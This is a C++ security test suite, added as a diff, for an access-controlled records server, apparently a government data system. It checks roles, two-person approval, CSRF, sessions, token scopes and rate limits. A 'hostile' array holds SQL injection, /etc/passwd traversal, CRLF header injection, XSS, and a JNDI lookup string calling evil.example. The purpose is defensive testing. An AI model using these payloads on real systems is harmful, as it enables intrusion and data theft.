@@ -1,0 +1,560 @@
+#include "adic/access/totp.hpp"
+#include "adic/base/random.hpp"
+#include "adic/server/accounts.hpp"
+
+#include "test_house.hpp"
+
+#include <array>
+#include <cstring>
+#include <set>
+#include <thread>
+
+#include <gmock/gmock.h>
+
+namespace adic::server {
+namespace {
+
+using test::House;
+using test::noon;
+using testing::HasSubstr;
+using testing::Not;
+
+constexpr int ok = 200;
+constexpr int created = 201;
+constexpr int bad_request = 400;
+constexpr int unauthorised = 401;
+constexpr int forbidden = 403;
+constexpr int not_found = 404;
+constexpr int conflict = 409;
+constexpr int misdirected = 421;
+constexpr int too_many = 429;
+
+constexpr const char* password = "a long and quiet password";
+
+/// Bytes that differ from call to call, and are the same in each run.
+access::RandomSource counted_random() {
+    return [stream = RandomStream(7, 0)](std::span<std::byte> bytes) mutable {
+        for (std::byte& byte : bytes) {
+            byte = static_cast<std::byte>(stream.bits());
+        }
+    };
+}
+
+/// Two states with accounts of several roles. None has a second factor, so that what takes one is
+/// withheld.
+class Ministries : public testing::Test {
+  protected:
+    Ministries()
+        : book_(*access::AccountBook::open(
+            scratch_.path() / "accounts.db",
+            access::AccountBook::IfMissing::make
+        ))
+        , accounts_(book_, counted_random())
+        , house_(&accounts_) {
+        add("admin", "MYS", "reader,administrator");
+        add("editor", "MYS", "reader,editor");
+        add("reader", "MYS", "reader");
+        add("releaser", "MYS", "reader,editor,releaser");
+        add("second", "MYS", "reader,releaser");
+        add("foreign", "IDN", "reader,editor,releaser");
+        add("neighbour", "IDN", "reader");
+        house_.add("MYS", "product", "id,name,kind,price\nown,radio,item of supply,5\n");
+        house_.add("IDN", "product", "id,name,kind,price\nhidden,secret radio,item of supply,5\n");
+    }
+
+    void add(const std::string& name, const std::string& state, const std::string& roles) {
+        const auto owner = access::Actor::owner_of_file("somebody");
+        ASSERT_TRUE(book_.add({name, {}, state, {}, *access::parse_roles(roles), {}}, owner, noon));
+        ASSERT_FALSE(accounts_.passwords.set(name, password, false, owner, noon));
+    }
+
+    void enter(const std::string& name) {
+        house_.enter_as(name, password);
+        ASSERT_FALSE(house_.cookie().empty()) << name;
+    }
+
+    /// Gives an account a second factor, and comes in with it.
+    void enter_with_code(const std::string& name) {
+        const auto begun = accounts_.second_factors.begin(name);
+        ASSERT_TRUE(begun);
+        const auto key = access::parse_otpauth_uri(begun->uri);
+        ASSERT_TRUE(key);
+        const auto codes = accounts_.second_factors.confirm(
+            name,
+            access::hotp_code(key->secret, access::totp_step(house_.now()), access::totp_digits),
+            house_.now()
+        );
+        ASSERT_TRUE(codes);
+        house_.enter_as(name, password, codes->front());
+        ASSERT_FALSE(house_.cookie().empty()) << name;
+    }
+
+    test::Scratch scratch_;
+    access::AccountBook book_;
+    Accounts accounts_;
+    House house_;
+};
+
+TEST_F(Ministries, TellNobodyAnythingWhoHasNotComeIn) {
+    house_.leave();
+    for (const RouteName& route : route_names()) {
+        const auto response =
+            house_.ask(std::string(route.method), std::string(route.path), R"({"name":"a"})");
+        EXPECT_THAT(response.body, Not(HasSubstr("radio"))) << route.path;
+        const std::set<std::string_view> open{
+            "/api/v1/session",
+            "/api/v1/password",
+            "/api/v1/record-types",
+            "/api/v1/analyses",
+            "/api/v1/openapi.json",
+            "/healthz",
+            "/readyz"};
+        if (!open.contains(route.path)) {
+            EXPECT_EQ(response.status, unauthorised) << route.method << ' ' << route.path;
+        }
+    }
+}
+
+TEST_F(Ministries, DoNotLetReadersWrite) {
+    enter("reader");
+    const std::string record = R"({"records":[{"name":"x","kind":"item of supply"}]})";
+    EXPECT_EQ(house_.ask("POST", "/api/v1/records?type=product", record).status, forbidden);
+    EXPECT_EQ(house_.ask("PUT", "/api/v1/records/MYS.own", "{}").status, forbidden);
+    EXPECT_EQ(house_.ask("DELETE", "/api/v1/records/MYS.own").status, forbidden);
+    EXPECT_EQ(
+        house_
+            .ask("POST", "/api/v1/records/MYS.own/release", R"({"release":"ASEAN","confirm":true})")
+            .status,
+        forbidden
+    );
+    EXPECT_EQ(house_.ask("GET", "/api/v1/accounts").status, forbidden);
+    EXPECT_EQ(house_.ask("GET", "/metrics").status, forbidden);
+}
+
+TEST_F(Ministries, DoNotLetEditorsRelease) {
+    enter("editor");
+    const auto table = house_.ask(
+        "POST",
+        "/api/v1/records?type=product",
+        R"({"records":[{"name":"x","kind":"item of supply","release":"public"}]})"
+    );
+    EXPECT_EQ(table.status, bad_request) << table.body;
+    const auto word = house_.ask(
+        "POST",
+        "/api/v1/records?type=product&release=public",
+        R"({"records":[{"name":"x","kind":"item of supply"}]})"
+    );
+    EXPECT_EQ(word.status, bad_request) << word.body;
+    const auto changed = house_.ask(
+        "POST",
+        "/api/v1/records/MYS.own/release",
+        R"({"release":"public","confirm":true})"
+    );
+    EXPECT_NE(changed.status, ok);
+    EXPECT_TRUE((*house_.store().latest("MYS.own"))->record.policy == model::ReleasePolicy{});
+}
+
+TEST_F(Ministries, DoNotLetAWithdrawnReleaseComeBackByAnEdit) {
+    house_.add("MYS", "product", "id,name,kind,release\nback,radio,item of supply,public\n");
+    enter("editor");
+    Request withdrawal = house_.request("DELETE", "/api/v1/records/MYS.back");
+    for (const auto& [name, value] : house_.ask("GET", "/api/v1/records/MYS.back").headers) {
+        if (name == "ETag") {
+            withdrawal.headers.emplace_back("if-match", value);
+        }
+    }
+    ASSERT_EQ(house_.ask(withdrawal).status, 204);
+    const auto again = house_.ask(
+        "POST",
+        "/api/v1/records?type=product",
+        R"({"records":[{"id":"back","name":"radio","kind":"item of supply"}]})"
+    );
+    ASSERT_EQ(again.status, created) << again.body;
+    EXPECT_TRUE((*house_.store().latest("MYS.back"))->record.policy == model::ReleasePolicy{});
+}
+
+TEST_F(Ministries, NeedTwoPeopleToWidenAnAudience) {
+    enter_with_code("releaser");
+    const auto asked = house_.ask(
+        "POST",
+        "/api/v1/records/MYS.own/release",
+        R"({"release":"ASEAN","confirm":true})"
+    );
+    ASSERT_EQ(asked.status, 202) << asked.body;
+    EXPECT_THAT(asked.body, HasSubstr("\"saved\":false"));
+    EXPECT_EQ(house_.ask("POST", "/api/v1/proposals/1/approve").status, conflict)
+        << "nobody approves what is their own";
+    enter_with_code("foreign");
+    EXPECT_EQ(house_.ask("POST", "/api/v1/proposals/1/approve").status, not_found);
+    EXPECT_THAT(house_.ask("GET", "/api/v1/proposals").body, Not(HasSubstr("MYS")));
+    EXPECT_EQ(house_.ask("GET", "/api/v1/records/MYS.own").status, not_found);
+    enter("second");
+    EXPECT_EQ(house_.ask("POST", "/api/v1/proposals/1/approve").status, forbidden)
+        << "a second factor is needed";
+    house_.pass(std::chrono::minutes{2});
+    enter_with_code("second");
+    const auto approved = house_.ask("POST", "/api/v1/proposals/1/approve");
+    EXPECT_EQ(approved.status, ok) << approved.body;
+    EXPECT_EQ(house_.ask("POST", "/api/v1/proposals/1/approve").status, conflict);
+    enter("neighbour");
+    EXPECT_EQ(house_.ask("GET", "/api/v1/records/MYS.own").status, ok);
+}
+
+TEST_F(Ministries, DoNotApproveWhatHasBeenChangedSince) {
+    enter_with_code("releaser");
+    house_.ask("POST", "/api/v1/records/MYS.own/release", R"({"release":"ASEAN","confirm":true})");
+    app::ReleaseRequest other;
+    other.id = "MYS.own";
+    other.field = "price";
+    other.release = "org:yard";
+    other.data = House::data();
+    other.is_confirmed = true;
+    ASSERT_TRUE(app::release_record(house_.store(), other, {"MYS", "desk", "a test", noon}));
+    house_.pass(std::chrono::minutes{2});
+    enter_with_code("second");
+    EXPECT_EQ(house_.ask("POST", "/api/v1/proposals/1/approve").status, conflict);
+}
+
+TEST_F(Ministries, DoNotTakeAnothersAccountOrRecord) {
+    enter_with_code("foreign");
+    EXPECT_EQ(house_.ask("GET", "/api/v1/records/MYS.own").status, not_found);
+    for (const char* target : {"/api/v1/records/MYS.own", "/api/v1/records/MYS.none"}) {
+        Request change = house_.request("PUT", target, R"({"name":"x","kind":"item of supply"})");
+        change.headers.emplace_back("if-match", "\"0\"");
+        EXPECT_EQ(house_.ask(change).status, not_found) << target;
+    }
+    const auto taken = house_.ask(
+        "POST",
+        "/api/v1/records?type=product",
+        R"({"records":[{"id":"MYS.own","name":"x","kind":"item of supply"}]})"
+    );
+    EXPECT_EQ(taken.status, created) << "it becomes IDN.MYS.own: " << taken.body;
+    EXPECT_EQ((*house_.store().latest("MYS.own"))->record.owner, "MYS");
+    enter_with_code("admin");
+    EXPECT_EQ(
+        house_.ask("PATCH", "/api/v1/accounts/foreign", R"({"enabled":false})").status,
+        not_found
+    );
+    EXPECT_EQ(
+        house_
+            .ask(
+                "PUT",
+                "/api/v1/accounts/foreign/password",
+                R"({"password":"a long and new password"})"
+            )
+            .status,
+        not_found
+    );
+    EXPECT_THAT(house_.ask("GET", "/api/v1/accounts").body, Not(HasSubstr("foreign")));
+    EXPECT_NE(
+        house_
+            .ask(
+                "PATCH",
+                "/api/v1/accounts/admin",
+                R"({"roles":"reader,editor,releaser,administrator"})"
+            )
+            .status,
+        ok
+    ) << "nobody raises their own rights";
+}
+
+TEST_F(Ministries, DoNotLetPagesOfOthersAct) {
+    enter("editor");
+    const std::string record = R"({"records":[{"name":"x","kind":"item of supply"}]})";
+    const auto with = [&](const char* name, const std::string& value) {
+        Request request = house_.request("POST", "/api/v1/records?type=product", record);
+        std::erase_if(request.headers, [&](const auto& header) { return header.first == name; });
+        if (!value.empty()) {
+            request.headers.emplace_back(name, value);
+        }
+        return house_.ask(request).status;
+    };
+    EXPECT_EQ(with("x-adic-csrf", ""), forbidden);
+    EXPECT_EQ(with("x-adic-csrf", "guess"), forbidden);
+    EXPECT_EQ(with("x-adic-csrf", std::string(house_.csrf().size(), 'a')), forbidden);
+    EXPECT_EQ(with("origin", "http://evil.example"), forbidden);
+    EXPECT_EQ(with("origin", "null"), forbidden);
+    EXPECT_EQ(with("sec-fetch-site", "cross-site"), forbidden);
+    EXPECT_EQ(with("sec-fetch-site", "same-site"), forbidden);
+    EXPECT_EQ(with("origin", "http://house:1"), created);
+}
+
+TEST_F(Ministries, AnswerToTheirOwnNameAlone) {
+    enter("reader");
+    for (const char* name : {"evil.example", "house:2", "house", "127.0.0.1:1", ""}) {
+        Request request = house_.request("GET", "/api/v1/records");
+        request.headers[0].second = name;
+        EXPECT_EQ(house_.ask(request).status, misdirected) << name;
+    }
+}
+
+TEST_F(Ministries, GiveANewSecretAtSignIn) {
+    Request request = house_.request(
+        "POST",
+        "/api/v1/session",
+        std::string(R"({"name":"reader","password":")") + password + "\"}"
+    );
+    request.headers.emplace_back("cookie", "adic_session=planted");
+    const auto response = house_.ask(request);
+    ASSERT_EQ(response.status, ok) << response.body;
+    bool is_set = false;
+    for (const auto& [name, value] : response.headers) {
+        if (name == "Set-Cookie") {
+            is_set = true;
+            EXPECT_THAT(value, Not(HasSubstr("planted")));
+            EXPECT_THAT(value, HasSubstr("HttpOnly"));
+            EXPECT_THAT(value, HasSubstr("SameSite=Strict"));
+        }
+    }
+    EXPECT_TRUE(is_set);
+    Request planted = house_.request("GET", "/api/v1/records");
+    planted.headers.emplace_back("cookie", "adic_session=planted");
+    EXPECT_EQ(house_.ask(planted).status, unauthorised);
+}
+
+TEST_F(Ministries, EndASessionForGood) {
+    enter("reader");
+    const Request before = house_.request("GET", "/api/v1/records");
+    EXPECT_EQ(house_.ask(before).status, ok);
+    EXPECT_EQ(house_.ask("DELETE", "/api/v1/session").status, 204);
+    EXPECT_EQ(house_.ask(before).status, unauthorised);
+    enter("reader");
+    const Request idle = house_.request("GET", "/api/v1/records");
+    house_.pass(std::chrono::hours{1});
+    EXPECT_EQ(house_.ask(idle).status, unauthorised) << "an hour without use";
+}
+
+TEST_F(Ministries, DoNotLetTokensDoMoreThanTheirScope) {
+    enter("editor");
+    const auto made = house_.ask("POST", "/api/v1/tokens", R"({"scopes":"read","days":30})");
+    ASSERT_EQ(made.status, created) << made.body;
+    const auto begin = made.body.find("\"token\":\"") + std::strlen("\"token\":\"");
+    const std::string token = made.body.substr(begin, made.body.find('"', begin) - begin);
+    house_.leave();
+    const auto with_token =
+        [&](const std::string& method, const std::string& target, const std::string& body = {}) {
+            Request request = house_.request(method, target, body);
+            request.headers.emplace_back("authorization", "Bearer " + token);
+            return house_.ask(request).status;
+        };
+    EXPECT_EQ(with_token("GET", "/api/v1/records"), ok);
+    EXPECT_EQ(
+        with_token(
+            "POST",
+            "/api/v1/records?type=product",
+            R"({"records":[{"name":"x","kind":"item of supply"}]})"
+        ),
+        forbidden
+    );
+    EXPECT_EQ(with_token("POST", "/api/v1/tokens", R"({"scopes":"write"})"), forbidden);
+    EXPECT_EQ(with_token("POST", "/api/v1/second-factor", R"({"password":"x"})"), forbidden);
+    EXPECT_EQ(with_token("DELETE", "/api/v1/sessions"), forbidden);
+    for (const std::string& wrong :
+         {token + "a", token.substr(1), std::string("adic_"), std::string{}}) {
+        Request request = house_.request("GET", "/api/v1/records");
+        request.headers.emplace_back("authorization", "Bearer " + wrong);
+        EXPECT_EQ(house_.ask(request).status, unauthorised) << wrong;
+    }
+    house_.pass(std::chrono::days{31});
+    EXPECT_EQ(with_token("GET", "/api/v1/records"), unauthorised) << "it has expired";
+}
+
+TEST_F(Ministries, SlowDownWhoGuesses) {
+    int slowed = 0;
+    for (int guess = 0; guess < 12; ++guess) {
+        const auto response = house_.ask(
+            "POST",
+            "/api/v1/session",
+            R"({"name":"reader","password":"wrong )" + std::to_string(guess) + "\"}"
+        );
+        EXPECT_TRUE(response.status == unauthorised || response.status == too_many);
+        slowed += response.status == too_many ? 1 : 0;
+    }
+    EXPECT_GT(slowed, 3);
+}
+
+TEST_F(Ministries, DoNotTellWhetherAnAccountExists) {
+    const auto known =
+        house_.ask("POST", "/api/v1/session", R"({"name":"reader","password":"wrong password"})");
+    const auto unknown =
+        house_.ask("POST", "/api/v1/session", R"({"name":"nobody","password":"wrong password"})");
+    EXPECT_EQ(known.status, unknown.status);
+    EXPECT_EQ(known.body, unknown.body);
+}
+
+/// Texts that mean something elsewhere: in SQL, paths, HTML, headers, formats, JSON.
+constexpr std::array hostile{
+    "' OR '1'='1",
+    "'; DROP TABLE version; --",
+    "\" UNION SELECT * FROM latest --",
+    "../../../../etc/passwd",
+    "..%2f..%2fetc%2fpasswd",
+    "%2e%2e%2f",
+    "%00",
+    "a%0d%0aSet-Cookie:%20x=y",
+    "<script>alert(1)</script>",
+    "{{7*7}}",
+    "${jndi:ldap://evil.example/}",
+    "%s%n%n%n",
+    "-1",
+    "18446744073709551616",
+    "\xC3\x28",
+    "NaN",
+};
+
+TEST_F(Ministries, TakeHostileTextsForTexts) {
+    enter_with_code("foreign");
+    for (const char* text : hostile) {
+        const std::string encoded = [&] {
+            std::string all;
+            for (const char* c = text; *c != '\0'; ++c) {
+                all += *c == ' ' || *c == '#' || *c == '&' ? "+" : std::string(1, *c);
+            }
+            return all;
+        }();
+        for (const std::string& target :
+             {"/api/v1/records?q=" + encoded,
+              "/api/v1/records?field=name:" + encoded,
+              "/api/v1/records?sort=" + encoded,
+              "/api/v1/records?type=" + encoded,
+              "/api/v1/records?owner=" + encoded,
+              "/api/v1/records?offset=" + encoded,
+              "/api/v1/suggestions?q=" + encoded,
+              "/api/v1/records/" + encoded,
+              "/api/v1/records/" + encoded + "/history",
+              "/api/v1/analyses/" + encoded,
+              "/api/v1/analyses/echo?file=" + encoded,
+              "/api/v1/jobs/" + encoded,
+              "/" + encoded}) {
+            const auto response = house_.ask("GET", target);
+            EXPECT_LT(response.status, 500) << target;
+            EXPECT_THAT(response.body, Not(HasSubstr("root:"))) << target;
+            EXPECT_THAT(response.body, Not(HasSubstr("MYS.own"))) << target;
+            for (const auto& [name, value] : response.headers) {
+                EXPECT_EQ(value.find_first_of("\r\n"), std::string::npos) << target;
+                EXPECT_NE(name, "Set-Cookie") << target;
+            }
+        }
+    }
+    EXPECT_TRUE(*house_.store().latest("MYS.own")) << "nothing was dropped";
+}
+
+TEST_F(Ministries, RefuseBodiesThatAreBuiltToHurt) {
+    enter("editor");
+    const std::string deep =
+        "{\"records\":" + std::string(100'000, '[') + std::string(100'000, ']') + '}';
+    for (const std::string& body :
+         {deep,
+          std::string("{\"records\":[{\"name\":\"a\\u0000b\",\"kind\":\"item of supply\"}]}"),
+          std::string("{\"records\":[{\"name\":1e999,\"kind\":\"item of supply\"}]}"),
+          std::string("{\"records\":[{\"__proto__\":{\"x\":1},\"name\":\"a\"}]}"),
+          std::string("{\"records\":[{\"name\":{\"a\":1},\"kind\":\"item of supply\"}]}"),
+          std::string("{\"records\":7}"),
+          std::string("[]"),
+          std::string("{"),
+          std::string("\xFF\xFE{}")}) {
+        const auto response = house_.ask("POST", "/api/v1/records?type=product", body);
+        EXPECT_GE(response.status, bad_request) << body.substr(0, 60);
+        EXPECT_LT(response.status, 500) << body.substr(0, 60);
+    }
+    Request form = house_.request("POST", "/api/v1/records?type=product");
+    form.headers.emplace_back("content-type", "application/x-www-form-urlencoded");
+    form.body = "records=x";
+    EXPECT_EQ(house_.ask(form).status, bad_request) << "forms of other pages are no JSON";
+}
+
+TEST_F(Ministries, LetStrangersSendLittle) {
+    const Request stranger = house_.request("POST", "/api/v1/records?type=product");
+    EXPECT_LE(house_.application().largest_body(stranger), 64U * 1024U);
+    EXPECT_EQ(house_.application().largest_body(house_.request("POST", "/nowhere")), 0U);
+    EXPECT_EQ(house_.application().largest_body(house_.request("GET", "/api/v1/records")), 0U);
+    enter("reader");
+    EXPECT_LE(
+        house_.application().largest_body(house_.request("POST", "/api/v1/records?type=product")),
+        64U * 1024U
+    ) << "a reader may not write";
+    enter("editor");
+    EXPECT_GT(
+        house_.application().largest_body(house_.request("POST", "/api/v1/records?type=product")),
+        1024U * 1024U
+    );
+}
+
+TEST_F(Ministries, KeepJobsToWhoeverAskedForThem) {
+    enter("reader");
+    const auto job = house_.ask("POST", "/api/v1/jobs", R"({"analysis":"endless"})");
+    ASSERT_EQ(job.status, 202) << job.body;
+    const std::string id = job.body.substr(job.body.find("\"id\":\"") + 6);
+    const std::string target = "/api/v1/jobs/" + id.substr(0, id.find('"'));
+    EXPECT_EQ(house_.ask("GET", target).status, ok);
+    enter("editor");
+    EXPECT_EQ(house_.ask("GET", target).status, not_found) << "of the same state, too";
+    EXPECT_EQ(house_.ask("POST", target + "/stop").status, not_found);
+    EXPECT_EQ(house_.ask("GET", target + "/result").status, not_found);
+    EXPECT_EQ(house_.ask("GET", target + "/events").status, not_found);
+    EXPECT_EQ(house_.ask("DELETE", target).status, not_found);
+    enter("reader");
+    EXPECT_EQ(house_.ask("DELETE", target).status, conflict) << "it runs";
+    EXPECT_EQ(house_.ask("POST", target + "/stop").status, ok);
+}
+
+TEST_F(Ministries, DoNotLetOneAccountFillTheQueue) {
+    enter("reader");
+    int refused = 0;
+    for (int j = 0; j < 20; ++j) {
+        refused +=
+            house_.ask("POST", "/api/v1/jobs", R"({"analysis":"endless"})").status == 503 ? 1 : 0;
+    }
+    EXPECT_GE(refused, 15);
+    enter("editor");
+    EXPECT_EQ(house_.ask("POST", "/api/v1/jobs", R"({"analysis":"echo"})").status, 202);
+}
+
+TEST_F(Ministries, KeepAnswersOfKeysToTheirAccount) {
+    const auto add_with_key = [&](const std::string& name, const std::string& key) {
+        Request request = house_.request(
+            "POST",
+            "/api/v1/records?type=product",
+            R"({"records":[{"name":")" + name + R"(","kind":"item of supply"}]})"
+        );
+        request.headers.emplace_back("idempotency-key", key);
+        return house_.ask(request);
+    };
+    enter("editor");
+    const auto first = add_with_key("boat", "k");
+    EXPECT_EQ(first.status, created) << first.body;
+    EXPECT_EQ(add_with_key("boat", "k").body, first.body) << "not added twice";
+    EXPECT_EQ(add_with_key("ship", "k").status, conflict);
+    EXPECT_EQ(add_with_key("boat", std::string(1000, 'k')).status, bad_request);
+    enter("foreign");
+    EXPECT_NE(add_with_key("boat", "k").body, first.body);
+}
+
+TEST_F(Ministries, ShowNoDetailsOfWhatWentWrong) {
+    enter("reader");
+    EXPECT_THAT(house_.ask("GET", "/api/v1/analyses/broken").body, Not(HasSubstr("secret detail")));
+    for (const std::string& line : house_.log()) {
+        for (const char* secret : {"radio", "password", "reader\"", "MYS", "session="}) {
+            EXPECT_THAT(line, Not(HasSubstr(secret)));
+        }
+    }
+}
+
+TEST_F(Ministries, TellBrowsersToTrustNobody) {
+    enter("reader");
+    for (const char* target : {"/api/v1/records", "/api/v1/nowhere", "/healthz"}) {
+        std::map<std::string, std::string> headers;
+        for (const auto& [name, value] : house_.ask("GET", target).headers) {
+            headers[name] = value;
+        }
+        EXPECT_THAT(headers["Content-Security-Policy"], HasSubstr("default-src 'none'"));
+        EXPECT_EQ(headers["X-Content-Type-Options"], "nosniff");
+        EXPECT_EQ(headers["X-Frame-Options"], "DENY");
+        EXPECT_EQ(headers["Referrer-Policy"], "no-referrer");
+        EXPECT_FALSE(headers.contains("Access-Control-Allow-Origin"));
+        EXPECT_THAT(headers["Cache-Control"], testing::AnyOf("no-store", "private, no-cache"));
+    }
+}
+
+}  // namespace
+}  // namespace adic::server
